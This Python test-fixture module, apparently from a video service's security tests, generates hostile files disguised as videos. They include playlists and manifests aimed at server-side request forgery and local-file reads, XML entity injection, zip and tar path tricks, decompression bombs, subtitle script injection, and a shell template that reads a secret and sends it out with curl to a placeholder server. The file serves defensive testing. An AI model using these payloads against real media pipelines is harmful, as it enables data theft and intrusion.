"""Files without a video: playlists, scripts, documents, pictures, sounds, programs."""

from __future__ import annotations

import gzip
import io
import random
import struct
import sys
import tarfile
import zipfile
import zlib
from pathlib import Path

from tests import clips
from tests.hostile.bait import Bait, Kinds

KINDS = Kinds()

# -- playlists and manifests ----------------------------------------------------------------------

HEAD = "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:9\n#EXT-X-MEDIA-SEQUENCE:0\n"
MPD = (
    '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT9S">'
    '<Period><AdaptationSet mimeType="video/mp4"><Representation id="0" bandwidth="1">'
    "<BaseURL>{url}</BaseURL></Representation></AdaptationSet></Period></MPD>"
)

for _name, _template in {
    "playlist-of-a-local-video.mp4": HEAD + "#EXTINF:9,\nfile://{video}\n#EXT-X-ENDLIST\n",
    "playlist-of-a-bare-path.mov": HEAD + "#EXTINF:9,\n{video}\n#EXT-X-ENDLIST\n",
    "playlist-of-a-server.mkv": HEAD + "#EXTINF:9,\n{server}/a.ts\n#EXT-X-ENDLIST\n",
    "playlist-of-playlists.webm": "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{server}/a.m3u8\n",
    "playlist-with-a-key-from-a-server.avi": HEAD
    + '#EXT-X-KEY:METHOD=AES-128,URI="{server}/key",IV=0x00000000000000000000000000000000\n'
    + "#EXTINF:9,\nfile://{video}\n#EXT-X-ENDLIST\n",
    "playlist-with-a-map-of-a-local-file.mp4": HEAD
    + '#EXT-X-MAP:URI="file://{secret}"\n#EXTINF:9,\nfile://{video}\n#EXT-X-ENDLIST\n',
    "playlist-of-glued-protocols.mp4": HEAD
    + "#EXTINF:9,\nconcat:{server}/head|file://{secret}\n#EXT-X-ENDLIST\n",
    "playlist-of-a-slice.mp4": HEAD
    + "#EXTINF:9,\nsubfile,,start,0,end,64,,:{secret}\n#EXT-X-ENDLIST\n",
    "playlist-of-data.mp4": HEAD + "#EXTINF:9,\ndata:text/plain,x\n{server}/x\n#EXT-X-ENDLIST\n",
    "playlist-behind-a-byte-order-mark.mp4": "\ufeff#EXTM3U\n#EXTINF:9,\n{server}/a.ts\n",
    "ffconcat-of-a-local-video.mp4": "ffconcat version 1.0\nfile '{video}'\n",
    "ffconcat-of-a-secret.mov": "ffconcat version 1.0\nfile 'file:{secret}'\n",
    "ffconcat-of-a-server.mkv": "ffconcat version 1.0\nfile '{server}/a.mp4'\n",
    "ffconcat-with-options.webm": "ffconcat version 1.0\nfile '{video}'\noption safe 0\n"
    "option protocol_whitelist file,http,tcp\noption format_whitelist ALL\n",
    "ffconcat-of-itself.avi": "ffconcat version 1.0\nfile 'ffconcat-of-itself.avi'\n",
    "session-description.mp4": "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\n"
    "m=video 9 RTP/AVP 96\na=rtpmap:96 H264/90000\n",
    "dash-of-a-local-video.mp4": '<?xml version="1.0"?>' + MPD.replace("{url}", "file://{video}"),
    "dash-of-a-server.webm": '<?xml version="1.0"?>' + MPD.replace("{url}", "{server}/a.mp4"),
    "dash-with-an-entity.mkv": '<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY x SYSTEM'
    ' "file://{secret}"><!ENTITY y SYSTEM "{server}/dtd">]>' + MPD.replace("{url}", "&x;&y;"),
    "smooth-streaming.mp4": "<SmoothStreamingMedia MajorVersion='2'><StreamIndex"
    " Url='{server}/q({bitrate})'/></SmoothStreamingMedia>",
    "edit-decision-list.mov": "# mpv EDL v0\n{video},0,5\n{server}/a.mp4,0,5\n",
    "cinema-package.mp4": '<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org'
    '/schemas/2067-3/2016"><Id>urn:uuid:0</Id><Path>{video}</Path></CompositionPlaylist>',
    "windows-playlist.avi": '<asx version="3.0"><entry><ref href="{server}/a.wmv"/></entry></asx>',
    "winamp-playlist.mp4": "[playlist]\nFile1={server}/a.mp3\nNumberOfEntries=1\nVersion=2\n",
    "real-media-link.mov": "rtsp://127.0.0.1:9/a.rm\n",
    "quicktime-media-link.mov": '<?xml version="1.0"?><?quicktime type="application/x-quicktime-'
    'media-link"?><embed src="{server}/a.mov" autoplay="true"/>',
    "xml-shareable-playlist.mkv": '<?xml version="1.0"?><playlist version="1" xmlns="http://xspf.org'
    '/ns/0/"><trackList><track><location>{server}/a</location></track></trackList></playlist>',
    "svg-with-a-local-picture.mp4": '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">'
    '<image href="file://{video}" width="9" height="9"/></svg>',
    "svg-with-an-entity.mov": '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM'
    ' "file://{secret}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
    "filter-graph.mp4": "movie={video}[out0]\n",
    "avisynth-script.avi": 'AviSource("{video}")\n',
    "vapoursynth-script.mkv": "import vapoursynth as vs\nopen('{secret}').read()\n",
    "shell-script.mp4": "#!/bin/sh\ncat {secret}\ncurl {server}/$(id)\n",
    "php-script.mp4": "<?php readfile('{secret}'); ?>",
    "metadata-file.mp4": ";FFMETADATA1\ntitle={secret}\n",
    "subtitles-with-a-script.mp4": "WEBVTT\n\n00:00.000 --> 00:09.000\n<script>alert(1)</script>\n",
    "styled-subtitles.mkv": "[Script Info]\nScriptType: v4.00+\n[Events]\n"
    "Format: Start, End, Text\nDialogue: 0:00:00.00,0:00:09.00,<script>alert(1)</script>\n",
    "page-with-a-script.mp4": "<!doctype html><script>fetch('{server}')</script><h1>404</h1>",
    "plain-text.mp4": "Dear all, this is not a video.\n" * 50,
    "ansi-art.mp4": "\x1b[2J\x1b[1;31m{secret}\x1b[0m\r\n" * 40,
    "format-strings.mp4": "%s%n%x%p" * 400,
}.items():
    KINDS.add_text(_name, _template)


@KINDS.add("playlist-in-front-of-a-video.mp4")
def _(bait: Bait) -> bytes:
    return bait.fill(HEAD + "#EXTINF:9,\n{server}/a.ts\n") + clips.h264_mp4().read_bytes()


@KINDS.add("playlist-inside-a-file-type-box.mp4", refused=True)
def _(bait: Bait) -> bytes:
    text = bait.fill("\n" + HEAD + "#EXTINF:9,\nfile://{video}\n")
    return struct.pack(">I4s", 16 + len(text), b"ftyp") + b"isom\0\0\0\0" + text


@KINDS.add("xbin-picture.mp4", refused=True)
def _(bait: Bait) -> bytes:
    """Builds a text-mode picture (XBIN), which shows any file in 80 x 25 cells."""
    return b"XBIN\x1a" + struct.pack("<HHBB", 80, 25, 16, 0) + bait.fill("{secret}") * 60


# -- other files ----------------------------------------------------------------------------------

KINDS.add_bytes("one-byte.mp4", lambda: b"\0", refused=True)
KINDS.add_bytes("nothing.mp4", lambda: b"", refused=True)
KINDS.add_bytes("zeros.mov", lambda: bytes(300_000), refused=True)
KINDS.add_bytes("ones.mkv", lambda: b"\xff" * 300_000, refused=True)
KINDS.add_bytes("noise.webm", lambda: random.Random(3).randbytes(300_000), refused=True)
KINDS.add_bytes("program.mp4", lambda: Path(sys.executable).read_bytes()[:200_000], refused=True)
KINDS.add_bytes("zipped-zeros.mp4", lambda: gzip.compress(bytes(2**24), mtime=0), refused=True)
KINDS.add_bytes("sound.mp4", lambda: _sound("wav"), refused=True)
KINDS.add_bytes("music.mov", lambda: _sound("mp3"), refused=True)
KINDS.add_bytes("lossless-music.mkv", lambda: _sound("flac"), refused=True)
KINDS.add_bytes("ogg-music.webm", lambda: _sound("ogg"), refused=True)
KINDS.add_bytes("moving-gif.mp4", lambda: _moving("gif"), refused=True)
KINDS.add_bytes("moving-png.mp4", lambda: _moving("apng"), refused=True)
KINDS.add_bytes("still-picture.mp4", lambda: clips.cover().read_bytes(), refused=True)
KINDS.add_bytes("transport-stream.mp4", lambda: _moving("ts"), refused=True)
KINDS.add_bytes("flash-video.mp4", lambda: _moving("flv"), refused=True)
KINDS.add_bytes("bare-h264.mp4", lambda: _moving("h264"), refused=True)
KINDS.add_bytes("huge-png.mp4", lambda: png(16_000, 16_000), refused=True)


@KINDS.add("zip-of-videos.mp4", refused=True)
def _(bait: Bait) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("../../video.mp4", clips.h264_mp4().read_bytes())
    return packed.getvalue()


@KINDS.add("tar-with-a-link.mp4", refused=True)
def _(bait: Bait) -> bytes:
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as archive:
        link = tarfile.TarInfo("video.mp4")
        link.type, link.linkname = tarfile.SYMTYPE, str(bait.secret)
        archive.addfile(link)
    return packed.getvalue()


@KINDS.add("document.mp4", refused=True)
def _(bait: Bait) -> bytes:
    return b"%PDF-1.4\n" + bait.fill(
        "1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI({server})>>>>endobj\n%%EOF\n"
    )


def _sound(suffix: str) -> bytes:
    return clips.make(suffix, *clips.tone(1)).read_bytes()


def _moving(suffix: str) -> bytes:
    return clips.make(suffix, *clips.picture(1, "64x64", "10")).read_bytes()


def png(width: int, height: int) -> bytes:
    """Builds a black PNG of one bit a pixel: 16,000 x 16,000 in about 30 KB."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes(height * (1 + (width + 7) // 8)), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
